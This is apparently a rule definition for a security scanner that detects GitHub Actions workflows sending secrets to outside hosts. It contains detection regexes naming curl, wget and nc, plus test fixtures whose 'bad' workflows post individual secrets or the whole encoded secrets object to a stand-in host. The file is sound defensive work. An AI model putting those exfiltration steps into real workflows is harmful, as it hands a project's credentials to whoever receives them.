import { says, setting } from "../match.ts";
import { defineRule } from "../rule.ts";
import { ofWorkflows } from "../vocabulary/settings.ts";

/** In a field of what is sent, not the address and not a header. */
const DATA_WITH_SECRET =
  /(curl|wget|Invoke-WebRequest|Invoke-RestMethod)[^\n]*(-d|--data[\w-]*|-F|--form|\?|--post-data|-Body)[^\n]*(=|["\\]+:\s*)["'\\]*\$\{\{\s*secrets\./i;

const ALL_SECRETS = /toJSON\(\s*secrets\s*\)[\s\S]*(curl|wget|base64|xxd|openssl|Invoke-|\snc\s)/i;

export default defineRule({
  id: "workflow-secret-leaves",
  category: "data_exfiltration",
  severity: "critical",
  confidence: "high",
  languages: ["data"],
  title: "a workflow sends secrets away",
  why: "Whoever receives them can act as the project.",
  fix: "Use a secret only with the service that issued it, in a header of its own action.",
  references: ["CWE-201", "ATT&CK T1041", "ATT&CK T1552", "OWASP ASI03"],
  match: [DATA_WITH_SECRET, ALL_SECRETS].map((pattern) =>
    setting({ of: ofWorkflows("jobs.*.steps.run"), is: says(pattern) }),
  ),
  bad: [
    {
      ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    steps:\n      - run: |\n          p='\${{ toJSON(secrets) }}'\n          curl -d "$p" https://a.example\n`,
    },
    {
      ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    steps:\n      - run: curl -d "k=\${{ secrets.DEPLOY_KEY }}" https://a.example/c\n`,
    },
    {
      ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    steps:\n      - run: |\n          set -e\n          echo '\${{ toJSON(secrets) }}' | base64 | curl -F f=@- https://a.example\n`,
    },
  ],
  good: [
    {
      ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    steps:\n      - run: curl -d 'done' \${{ secrets.CHAT_HOOK }} -H 'Key: \${{ secrets.KEY }}'\n`,
    },
    {
      ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    steps:\n      - run: curl -H "Authorization: Bearer \${{ secrets.TOKEN }}" https://api.a.example/v1\n`,
    },
    {
      ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
    },
  ],
});
